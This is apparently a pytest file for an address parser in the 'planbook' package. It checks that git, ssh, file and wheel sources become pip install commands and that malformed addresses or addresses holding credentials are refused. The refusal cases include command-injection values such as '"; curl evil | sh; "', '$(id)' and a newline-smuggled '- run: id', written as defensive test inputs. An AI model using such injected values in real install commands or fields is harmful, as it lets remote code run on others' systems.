"""Where a service gets planbook from, as it is written and as an installer left it behind."""

from __future__ import annotations

import json
from typing import Any

import pytest

from planbook.starter.address import (
    UnusableAddressError,
    address_installed_from,
    parse_address,
)

GIT = "https://git.example.com/team/planbook.git"


@pytest.mark.parametrize(
    ("written", "url"),
    [
        (GIT, f"git+{GIT}"),
        (f" git+{GIT}@v1.2 ", f"git+{GIT}@v1.2"),
        (f"planbook @ git+{GIT}", f"git+{GIT}"),
        (
            "git@git.example.com:team/planbook.git",
            "git+ssh://git@git.example.com/team/planbook.git",
        ),
        ("ssh://git@git.example.com:2222/planbook.git", None),
        ("https://git.example.com/team/planbook", "git+https://git.example.com/team/planbook"),
        (f"{GIT}@main#subdirectory=tools", f"git+{GIT}@main#subdirectory=tools"),
        ("file:///srv/git/planbook.git", "git+file:///srv/git/planbook.git"),
        ("https://files.example.com/planbook-1.0-py3-none-any.whl", ""),
    ],
)
def test_an_address_becomes_what_pip_takes(written: str, url: str | None) -> None:
    expected = f"git+{written}" if url is None else url or written
    address = parse_address(written)
    assert address.url == expected
    assert address.is_local == ("file:" in written)
    named = expected if address.is_local else f"planbook @ {expected}"
    assert address.install == f'pip install "{named}"'


@pytest.mark.parametrize(
    ("written", "why"),
    [
        ("planbook", "form"),
        ("planbook==0.1.0", "form"),
        ("../planbook", "form"),
        ("C:/planbook", "form"),
        ("https://", "form"),
        ("https://git.example.com/", "form"),
        ("ftp://git.example.com/planbook.git", "form"),
        ("", "letters"),
        ('https://git.example.com/p.git"; curl evil | sh; "', "letters"),
        ("https://git.example.com/$(id)", "letters"),
        ("https://git.example.com/a\n- run: id", "letters"),
        ("https://git.example.com/手册.git", "letters"),
        ("https://user:secret@git.example.com/p.git", "secret"),
        ("https://ghp_token@git.example.com/p.git", "secret"),
        ("ssh://git:secret@git.example.com/p.git", "secret"),
    ],
)
def test_what_is_no_address_or_holds_a_secret_is_refused(written: str, why: str) -> None:
    with pytest.raises(UnusableAddressError) as refused:
        parse_address(written)
    assert refused.value.why == why


def vcs(url: str, **more: Any) -> dict[str, Any]:
    return {"url": url, "vcs_info": {"vcs": "git", "commit_id": "0123abc"}, **more}


@pytest.mark.parametrize(
    ("told", "url"),
    [
        (vcs(GIT), f"git+{GIT}@0123abc"),
        (vcs(GIT, subdirectory="tools"), f"git+{GIT}@0123abc#subdirectory=tools"),
        (vcs("ssh://git@git.example.com/p.git"), "git+ssh://git@git.example.com/p.git@0123abc"),
        (vcs("file:///srv/p"), "git+file:///srv/p@0123abc"),
        (
            {
                "url": "https://files.example.com/p.whl",
                "archive_info": {"hashes": {"sha256": "ab12"}},
            },
            "https://files.example.com/p.whl#sha256=ab12",
        ),
        ({"url": "https://files.example.com/p.whl", "archive_info": {}}, None),
        ({"url": "file:///home/me/planbook", "dir_info": {}}, ""),
        ({"url": "file:///home/me/planbook", "dir_info": {"editable": True}}, ""),
        ({"url": "file:///home/me/p.whl", "archive_info": {}}, ""),
        (vcs("https://${TOKEN}@git.example.com/p.git"), ""),
        ({"url": "https://hg.example.com/p", "vcs_info": {"vcs": "hg", "commit_id": "1"}}, ""),
        ({"url": 7}, ""),
        ([], ""),
        ("text", ""),
    ],
)
def test_an_address_is_taken_from_what_the_installer_wrote(told: Any, url: str | None) -> None:
    found = address_installed_from(json.dumps(told))
    expected = told["url"] if url is None else url
    assert (found.url if found else "") == expected


@pytest.mark.parametrize("text", [None, "", "{", "null"])
def test_without_a_word_of_the_installer_there_is_no_address(text: str | None) -> None:
    assert address_installed_from(text) is None
